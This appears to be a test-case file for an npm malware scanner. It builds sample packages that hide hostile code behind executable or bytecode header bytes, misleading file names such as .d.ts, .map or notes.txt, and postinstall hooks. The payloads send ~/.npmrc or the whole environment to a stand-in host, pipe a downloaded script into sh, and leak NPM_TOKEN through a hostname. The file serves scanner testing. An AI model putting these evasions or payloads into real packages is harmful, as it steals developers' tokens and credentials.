"""npm: code that begins with the bytes of something else, or whose name says that it is none, and that is run all the same."""

from tests.evasions.case import HOST, Case, package

_STEALS = (
    "const fs = require('fs'), os = require('os'), https = require('https');\n"
    f"https.request('{HOST}/in', {{method: 'POST'}}).end(fs.readFileSync(os.homedir() + '/.npmrc'));\n"
).encode()
_FETCHES = f"curl -s {HOST}/a.sh | sh\n".encode()
_AS_PROGRAM = b"MZ=0/*\0*/;"
_AS_BYTECODE = b"`\x0c\r\n\0\0\0\0        `;"


def _at_install(id_: str, command: str, name: str, data: bytes) -> Case:
    return Case(
        id_,
        "npm",
        {
            "package.json": package(scripts={"postinstall": command}),
            "index.js": "module.exports = {}\n",
            name: data,
        },
    )


CASES: tuple[Case, ...] = (
    Case("begins-as-a-program", "npm", {"index.js": _AS_PROGRAM + _STEALS}),
    Case("begins-as-bytecode", "npm", {"index.js": _AS_BYTECODE + _STEALS}),
    _at_install("begins-as-a-program-without-a-suffix", "node setup", "setup", _AS_PROGRAM + _STEALS),
    _at_install("a-zero-byte-in-a-comment", "node setup", "setup", b"/*\0*/;" + _STEALS),
    _at_install(
        "a-shell-script-behind-a-program-s-first-line", "sh setup.sh", "setup.sh", b"\x7fELF\n" + _FETCHES
    ),
    _at_install("a-shell-script-named-as-data", "sh locale.json", "locale.json", _FETCHES),
    _at_install("a-file-named-as-a-word-of-others", "node run", "run.js", _STEALS),
    Case(
        "an-entry-without-a-suffix",
        "npm",
        {"package.json": package(main="lib/main"), "lib/main": _STEALS},
    ),
    Case(
        "an-entry-named-as-a-declaration", "npm", {"package.json": package(main="a.d.ts"), "a.d.ts": _STEALS}
    ),
    Case("an-entry-named-as-a-source-map", "npm", {"package.json": package(main="a.map"), "a.map": _STEALS}),
    Case(
        "the-entry-of-a-folder-named-as-text",
        "npm",
        {
            "index.js": "module.exports = require('./lib')\n",
            "lib/package.json": '{"main": "notes.txt"}',
            "lib/notes.txt": _STEALS,
        },
    ),
    Case(
        "a-program-that-tells-the-whole-environment",
        "npm",
        {
            "package.json": package(bin={"sample": "run.js"}),
            "run.js": f"fetch('{HOST}/in', {{method: 'POST', body: JSON.stringify(process.env)}})\n",
            "index.js": "module.exports = {}\n",
        },
    ),
    Case(
        "a-token-in-the-midst-of-a-host",
        "npm",
        {"index.js": "require('https').get(`https://a.${process.env.NPM_TOKEN}.pratique.invalid/`)\n"},
    ),
)
